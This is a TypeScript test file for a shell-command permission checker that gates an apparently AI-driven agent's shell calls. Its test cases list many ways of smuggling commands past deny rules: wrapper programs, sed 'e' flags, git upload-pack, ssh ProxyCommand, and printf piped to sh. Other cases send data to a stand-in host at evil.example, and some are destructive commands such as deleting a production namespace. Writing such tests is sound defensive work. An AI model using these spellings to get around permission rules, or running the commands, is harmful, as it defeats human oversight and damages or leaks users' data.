/** Spellings and wrappers that rules, leave and the list of effects have to see through. */
import { describe, expect, it } from 'vitest';
import { commandOf, mayBeTools } from '../../../electron/engine/executors/acp/facts';
import { judgeCall, type ApprovalRules } from '../../../electron/engine/permissions/judge-call';
import { hasShellEffects } from '../../../electron/engine/shell-policy/shell-effects';
import { shellRisk } from '../../../electron/engine/shell-policy/shell-risk';
import { judgeSleep } from '../../../electron/engine/shell-policy/sleep-guard';

const judged = (line: string, tools: ApprovalRules['tools'], mode: ApprovalRules['mode']): string =>
  judgeCall(
    { tool: 'shell.shell', purity: 'side_effect', hasEffects: true, risk: shellRisk(line) },
    { mode, tools },
    () => false,
  ).kind;

describe('a rule that denies rm', () => {
  it.each([
    'setarch -R rm x',
    'setarch x86_64 rm x',
    'setarch x86_64 -R rm x',
    'aws-vault exec prod -- rm x',
    'chamber exec s -- rm x',
    'mise x node@20 -- rm x',
    'mise exec node@20 python@3 -- rm x',
    'nvm exec rm x',
    'nvm exec 20 rm x',
    "ssh h -t 'rm x'",
    'ssh h -p 22 rm x',
    'ssh h -- rm x',
    'sshpass -p a ssh h rm x',
    'arch -x86_64 rm x',
    'xcrun rm x',
    'gtime -p rm x',
    'toolbox run rm x',
    'distrobox enter box -- rm x',
    'systemd-cat -t a rm x',
    'eatmydata rm x',
    'run-one rm x',
    'flatpak-spawn --host rm x',
    "tar --use='rm x' -cf a.tar b",
    'tar --checkpoint=1 --checkpoint-=exec="rm x" -cf a.tar b',
    "make -E '$(shell rm x)'",
    'make --ev="x"',
    "man --pa='rm x' ls",
    "sed '1e rm x' f",
    'sed s/a/b/e f',
    "git fetch --upload-pack='rm x' .",
    "git ls-remote --upl='rm x' .",
    "git push --exec='rm x' . HEAD",
    "git ls-remote 'ext::rm x'",
    "rsync -e 'rm x' a h:b",
    "ssh -o ProxyCommand='rm x' h",
    "ssh -oproxycommand='rm x' h",
    'scp -S ./x a h:b',
    '/lib64/ld-linux-x86-64.so.2 /bin/rm x',
    'ld.so --library-path . rm x',
    '/lib/ld-musl-x86_64.so.1 --preload a.so rm x',
    '/lib64/ld-linux-x86-64.so.2 --list /bin/ls',
    // What is printed into a shell, as printf and echo write it.
    "printf '%s\\n' ls 'rm x' | sh",
    "printf -- 'rm x' | sh",
    "printf '\\162m x' | sh",
    "printf 'ls%%; rm x' | sh",
    "echo -e '\\x72m x' | sh",
    "echo '\\0162m x' | sh",
    // A plain sh has `time` as a program, with options.
    'time -f %e rm x',
    'time -v rm x',
    'time -p -o out rm x',
    // Without a program these read commands.
    "ssh h <<< 'rm x'",
    'ssh h << E\nrm x\nE',
    'echo rm x | ssh h',
    'ssh h < script',
    "fakeroot <<< 'rm x'",
    "setarch <<< 'rm x'",
    "nsenter <<< 'rm x'",
    "newgrp g <<< 'rm x'",
    // The input supplies the program.
    "parallel {} ::: 'rm x'",
    "parallel '{} x' ::: rm",
    "parallel eval ::: 'rm x'",
    "parallel bash -c {} ::: 'rm x'",
    "flock lock --command 'rm x'",
    "sed '1!e rm x' f",
    "sed '1,3e rm x' f",
    "sed '\\,a,e rm x' f",
    'sed --expression=s/a/b/e f',
    'sed s,a,b,ge f',
    "git clone -u 'rm x' a b",
    'git clone -c core.sshCommand=rm a b',
    'git merge-index rm -a',
    'git grep -lOrm a',
    'git send-email --smtp-server=/bin/rm a',
    'git instaweb -b rm',
    'git daemon --access-hook=rm',
    // Programs that no table has: a word of the call is the program that the rule is about.
    'nocache rm x',
    'ip netns exec a rm x',
    'some-wrapper --level 3 -- rm x',
    'some-wrapper /bin/rm x',
    "some-wrapper 'rm x'",
    "some-wrapper --on-end='rm x'",
    'go test -exec rm ./...',
    'gcc -wrapper rm,x a.c',
    'install -s --strip-program=rm a b',
    'java -XX:OnError=rm a',
    "hg --config alias.x='!rm x' x",
    "cross-env-shell A=1 'rm x'",
    'cmake -E env A=1 rm x',
    'dc -e "!rm x"',
    "mysql -e '\\! rm x'",
  ])('F8 holds for %j, in every mode', (line) => {
    for (const mode of ['risky', 'all_effects', 'off'] as const)
      expect(judged(line, { 'shell.shell rm': 'deny' }, mode)).not.toBe('allow');
  });

  it.each([
    'setarch -R ls',
    'ssh h -p 22 ls',
    'ssh -o StrictHostKeyChecking=no h ls',
    'ssh -oConnectTimeout=5 h ls',
    'sed s/rm/mv/g f',
    'make test',
    'git add --update',
    'git clone --recursive a b',
    'rsync -av --exclude=x --delete a b',
    'echo ls | sh',
    "printf '%s\\n' ls 'cat x' | sh",
    'ssh -N -L 1:h:2 h',
    'sed 1,3d f',
    'sed s/e/rm/ f',
    'parallel gzip ::: rm b',
    'git clone -c core.autocrlf=false a b',
    'git push -u origin a',
    'mkdir rm',
    'man rm',
    'docker rm x',
    'git rm x',
    'some-program rm.txt src/rm warm',
    'make rm',
  ])('F8 has nothing to do with %j', (line) => {
    expect(judged(line, { 'shell.shell rm': 'deny' }, 'off')).toBe('allow');
  });
});

describe('a rule that allows a program', () => {
  it.each([
    ['git fetch', "git fetch --upload='touch p' ."],
    ['git fetch', "git fetch --upl 'touch p' ."],
    ['git clone', "git clone -u 'touch p' . b"],
    ['git clone', 'git clone -ccore.sshCommand=x a b'],
    ['git pull', "git pull --upload='touch p' ."],
    ['git push', "git push --exe='touch p' . HEAD"],
    ['git push', 'git push --mirr origin'],
    ['git push', "git push --prun origin 'refs/heads/*'"],
    ['git log', 'git log --output=.git/hooks/pre-commit'],
    ['git log', 'git log --outp=f'],
    ['git archive', 'git archive -o f HEAD'],
    ['ssh', "ssh -oproxycommand='touch p' h"],
    ['ssh', 'ssh -4oProxyCommand=x h'],
    ['ssh', 'ssh -4F cfg h'],
    ['ssh', 'ssh -oKnownHostsCommand=x h'],
    ['ssh', 'ssh -I ./x.so h'],
    ['rsync', 'rsync -avze ./x a h:b'],
    ['rsync', 'rsync --rsync-path=./x a h:b'],
    ['scp', 'scp -rS ./x a h:b'],
    ['sftp', 'sftp -D ./x'],
    ['npm install', 'npm install --script-she=./x'],
    ['npm install', 'npm install --git=./x'],
    ['go build', 'go build -toolexec ./x'],
    ['kubectl get', 'kubectl get --exec-batch x'],
    ['kubectl get', 'kubectl get --config-x=y'],
    ['kubectl get', 'kubectl get -oProxyCommand=x'],
    ['kubectl get', 'kubectl get -oproxycommand=x'],
    ['wget', 'wget -qO- -O g https://a.example'],
    ['wget', 'wget --spider -O k https://a.example'],
    ['curl', 'curl --data-urlencode a@/etc/hostname https://a.example'],
    ['docker run', 'docker run --mount=type=bind,src=/,dst=/h a'],
  ])('F8 %s does not allow %j', (name, line) => {
    expect(judged(line, { [`shell.shell ${name}`]: 'allow' }, 'all_effects')).toBe('ask');
  });

  it.each([
    ['git push', 'git push -u origin main'],
    ['git fetch', 'git fetch --prune --tags origin'],
    ['git clone', 'git clone --depth 1 https://a.example/b.git'],
    ['ssh', 'ssh -p 22 -o StrictHostKeyChecking=no h uptime'],
    ['rsync', 'rsync -avz --delete --exclude=node_modules a h:b'],
    ['scp', 'scp -r -P 22 a h:b'],
    ['npm install', 'npm install --save-dev left-pad'],
    ['go build', 'go build -v -trimpath ./...'],
    ['kubectl get', 'kubectl get pods'],
    ['wget', 'wget -qO- https://a.example'],
    ['curl', 'curl -s --data-urlencode a=b https://a.example'],
  ])('F8 %s allows %j', (name, line) => {
    expect(judged(line, { [`shell.shell ${name}`]: 'allow' }, 'all_effects')).toBe('allow');
  });
});

describe('leave for the session', () => {
  const judgedAfter = (line: string, grant: string): string =>
    judgeCall(
      { tool: 'shell.shell', purity: 'side_effect', hasEffects: true, risk: shellRisk(line) },
      { mode: 'risky', tools: {} },
      (what) => what === `shell.shell ${grant}`,
    ).kind;

  it.each([
    ['docker ps', 'docker rm -f db', 'docker ps -a'],
    ['docker volume ls', 'docker volume rm data', 'docker volume ls -q'],
    ['podman image ls', 'podman image prune', 'podman image ls'],
    ['kubectl get pods', 'kubectl delete ns prod', 'kubectl get services'],
    ['kubectl config view', 'kubectl config use-context prod', 'kubectl config view'],
    ['gh pr list', 'gh pr merge 3', 'gh pr list --state all'],
    ['gh auth status', 'gh auth token', 'gh auth status'],
    ['aws s3 ls', 'aws s3 rm s3://b/k', 'aws s3 ls s3://b'],
    ['gcloud compute instances list', 'gcloud compute instances delete a', ''],
    ['az vm list', 'az vm delete -n a', 'az vm list'],
    ['terraform state list', 'terraform state rm a', 'terraform state list'],
    ['terraform plan', 'terraform destroy', 'terraform plan'],
    ['helm list', 'helm uninstall a', 'helm list'],
    ['npx tsc', 'npx evil', 'npx tsc --noEmit'],
    ['npx -y tsc', 'npx -y evil', 'npx tsc'],
    ['pip list', 'pip install evil', 'pip list'],
    ['systemctl status a', 'systemctl stop a', 'systemctl status b'],
  ])('S3-06 %j does not cover %j', (line, other, same) => {
    const { covers } = shellRisk(line);
    expect(judgedAfter(line, covers)).toBe('allow');
    expect(judgedAfter(other, covers)).toBe('ask');
    if (same !== '') expect(judgedAfter(same, covers)).toBe('allow');
    // A rule for the whole program is one for what it does, too.
    const [program = ''] = line.split(' ');
    expect(judged(other, { [`shell.shell ${program}`]: 'deny' }, 'off')).toBe('deny');
  });

  it.each(['docker -H tcp://h ps', 'kubectl -n prod get pods', 'docker $X', 'gh'])(
    'S3-06 %j is for exactly this line: what it does does not stand first',
    (line) => {
      expect(shellRisk(line).covers).toBe(line);
    },
  );
});

describe('what is asked for nothing', () => {
  it.each([
    'curl localhost:3000',
    'curl -sf http://127.0.0.1:3000/health',
    'curl -s -m 5 "http://localhost:3000/a?b=c"',
    "curl -sS --max-time 3 'http://[::1]:3000/'",
    'timeout 5 curl -I localhost',
    'for i in 1 2 3; do curl -s localhost:3000 && break; sleep 5; done',
    'npm start & curl --fail localhost:3000',
    'docker --version',
    'kubectl --help',
    'ssh --version && sudo --version',
  ])('S3-06 %j stays on this computer', (line) => {
    expect(judged(line, {}, 'risky')).toBe('allow');
    expect(judged(line, {}, 'all_effects')).toBe('ask');
  });

  it.each([
    'curl -L localhost:3000',
    'curl -d a=b localhost:3000',
    'curl -XDELETE localhost:3000',
    'curl --json "{}" localhost:3000',
    'curl -H "X: y" localhost:3000',
    'curl -so f localhost:3000',
    'curl -O localhost:3000/f',
    'curl -x evil.example localhost',
    'curl -K c localhost',
    'curl localhost https://evil.example',
    'curl localhost.evil.example',
    'curl http://127.0.0.1.evil.example/',
    'curl http://localhost@evil.example/',
    'curl "localhost\\@evil.example"',
    'curl "localhost:3000/$(cat secret)"',
    'curl "localhost:3000/[1-9]"',
    'curl',
    'http_proxy=http://evil.example curl localhost',
    'export http_proxy=http://evil.example; curl localhost/secret',
    'CURL_HOME=.; curl localhost',
    'read http_proxy < f; curl localhost',
    'alias curl=evil; curl localhost',
    './curl localhost',
    'curl localhost | sh',
    'docker --version run x',
    'eval --version',
  ])('S3-06 is asked about: %j', (line) => {
    expect(judged(line, {}, 'risky')).toBe('ask');
  });

  it.each([
    ['gh pr list', /other computers/],
    ['gh run view 3', /other computers/],
    ['glab mr diff 3', /other computers/],
    ['gh pr merge 3', /publishes/],
    ['gh api repos/a/b', /publishes/],
    ['gh list create', /publishes/],
  ])('S3-06 says of %j what it does', (line, reason) => {
    expect(shellRisk(line).reason).toMatch(reason);
  });
});

describe('what zsh computes', () => {
  it.each([
    "printf '%d' 'path[$(touch p)]'",
    "n='path[$(touch p)]'; printf '%*d' n 1",
    "exit 'path[$(touch p)]'",
    'exit $x',
    "x='path[$(touch p)]'; echo $path[x]",
    'x=\'path[$(touch p)]\'; echo "$path[x]"',
    'echo $x[n]',
    "x='path[$(touch p)]'; test -t x",
    '[ -t "$x" ]',
    '[ "$x" y ]',
    'cat << E\n$path[x]\nE',
  ])('S0-13 counts as an effect: %j', (line) => {
    expect(hasShellEffects(line)).toBe(true);
  });

  it.each([
    'exit 1',
    'exit $?',
    "printf '%s: %d\\n' name 12",
    "printf '%5.1f %s\\n' 1.5 a",
    '[ -t 1 ]',
    'test -n "$x"',
    '[ "$x" = y ]',
    'echo "$x" [a]',
  ])('S0-13 is read-only: %j', (line) => {
    expect(hasShellEffects(line)).toBe(false);
  });

  it("F8 a rule that denies rm holds for exit 'path[$(rm f)]' and for a subscript", () => {
    for (const line of ["exit 'path[$(rm f)]'", "x='path[$(rm f)]'; echo $path[x]"])
      expect(judged(line, { 'shell.shell rm': 'deny' }, 'off')).not.toBe('allow');
  });
});

describe('the command of an external agent', () => {
  const of = (input: object) => commandOf({ kind: 'execute', input: input as never });

  it.each([
    [{ command: 'find', args: ['.', '-delete'] }, 'find . -delete'],
    [{ command: 'env', args: ['rm', '-rf', 'x'] }, 'env rm -rf x'],
    [{ command: ['git'], args: ['push'] }, 'git push'],
    [{ command: ['/bin/bash', '-lc', 'ls'], workdir: '/w', timeout_ms: 5 }, 'ls'],
    [{ command: 'ls', env: {}, run_in_background: true, description: 'look' }, 'ls'],
    [{ command: ['./bin/sh', '-c', 'ls'] }, './bin/sh -c ls'],
    [{ command: ['/w/evil/zsh', '-lc', 'cat a'] }, "/w/evil/zsh -lc 'cat a'"],
  ])('F1 is all of it: %j', (input, line) => {
    expect(of(input)?.replaceAll("'", '')).toBe(line.replaceAll("'", ''));
    expect(hasShellEffects(of(input) ?? 'rm')).toBe(line !== 'ls');
  });

  it.each([
    { command: 'ls', env: { PATH: './evil' } },
    { command: 'sh', stdin: 'rm x' },
    { command: 'ls', shell: './evil' },
    { command: ['ls', '; rm x'], shell: true },
    { command: 'ls -l', args: ['x'] },
    { command: 'ls', script: 'rm x' },
    { command: 'ls', args: 'x' },
  ])('F1 is not known with fields that decide what runs: %j', (input) => {
    expect(of(input)).toBeUndefined();
  });

  it('F2 a rule for a server restricts its tool, whatever the agent calls it', () => {
    const name = 'mcp__mail__send';
    for (const kind of ['other', 'execute'] as const)
      expect(mayBeTools('codex', { kind, name, title: '' })).toContain('mail.send');
    expect(mayBeTools('codex', { kind: 'execute', name: undefined, title: 'ls src/lib' })).toEqual(
      [],
    );
  });
});

describe('the sleep guard', () => {
  it.each(['sleep 600 || make', 'make && true', 'exit 0'])('lets %j through', (line) => {
    expect(judgeSleep(line)).toMatchObject({ blocked: false });
  });

  it.each(['sleep 600 || true', 'sleep 600 || :', 'ssh h -t sleep 600', 'setarch -R sleep 600'])(
    'stops %j',
    (line) => {
      expect(judgeSleep(line)).toMatchObject({ blocked: true });
    },
  );
});

describe('what is asked about by default', () => {
  it.each([
    // Publishes.
    ...['mvn -B clean deploy', './mvnw deploy', './gradlew build publish', 'sbt clean publish'],
    ...['pdm publish', 'rye publish', 'nuget push x', 'cabal upload x', 'mix hex.publish'],
    ...['dart pub publish', 'flutter pub publish', 'wrangler deploy', 'fly deploy', 'cdk deploy'],
    ...['sls deploy', 'pulumi up', 'firebase deploy', 'eas submit', 'fastlane release'],
    // Reaches other computers.
    ...['python3 -mpip install x', 'python -Im pip install x', 'python -W error -m pip install x'],
    ...['go mod download', 'rustup toolchain install x', 'nvm install 22', 'composer require x'],
    ...['openssl s_client -connect h:80', 'lynx x', 'yt-dlp x', 'cpanm x', 'git instaweb'],
    // Deletes.
    ...['git restore a', 'git restore -SW a', 'git checkout HEAD~1 a', 'zfs destroy x'],
    ...['pulumi destroy', 'vagrant destroy', 'dropdb x', 'cryptsetup erase x'],
    // Changes other programs or the system, or a file outside of the workspace.
    ...['dpkg -i x', 'dpkg --purge x', 'rpm -Uvh x', 'git maintenance start'],
    ...['cp --target-directory=/etc x', 'cp -rt/etc x', 'sed -i s/a/b/ ~/.bashrc'],
    ...[
      'perl -pi -e s/a/b/ /etc/x',
      'tar xf a -C /',
      'tar -x --directory=/etc -f a',
      'unzip a -d /',
    ],
    ...['find . -fprint /etc/x', 'sort -uo ~/.bashrc a', 'git log --output=/etc/x'],
    ...['git format-patch -o /etc main'],
    // Says what runs later.
    ...["git config core.pager 'rm x'", "git config --global alias.x '!rm x'", 'git config -e'],
    ...[
      'git config set core.hooksPath x',
      'git config remote.origin.pushurl x',
      'git config "$k" v',
    ],
    ...['git config --add include.path x', 'git hook run pre-commit', "ex -sc '!rm x' a"],
    ...['vim -es -S x a', "sqlite3 x '.shell rm y'", "sqlite3 x '.system rm y'"],
  ])('F8 %j', (line) => {
    expect(judged(line, {}, 'risky')).toBe('ask');
  });

  it.each([
    ...['mvn clean package', './gradlew build', 'cdk synth', 'pulumi preview', 'fly logs'],
    ...['python -m pytest -q', 'python x.py -m pip', 'python -W error -m mypy src', 'go mod tidy'],
    ...['git restore --staged a', 'git checkout -b x main', 'git checkout -t origin/x'],
    ...['dpkg -l', 'rpm -qa', 'zfs list', 'nvm use 20', 'rustup show', 'openssl rand 8'],
    ...['git config user.name x', 'git config --get core.pager', 'git config core.pager'],
    ...['git config --unset core.pager', 'git config get core.pager', 'git maintenance run'],
    ...['tar xzf a.tgz -C out', 'tar czf a.tgz -C ../x .', 'unzip a -d out', 'cp -rt out a'],
    ...[
      'sed -i s/a/b/ src/x',
      "sed -i 's#/etc/x#y#' a",
      "sed -n '/x/p' /etc/passwd",
      'sort -o b a',
    ],
    ...[
      'git format-patch -o out main',
      'git ls-files -o --exclude-standard',
      "sqlite3 x '.schema'",
    ],
  ])('F8 %j is not', (line) => {
    expect(judged(line, {}, 'risky')).toBe('allow');
  });
});
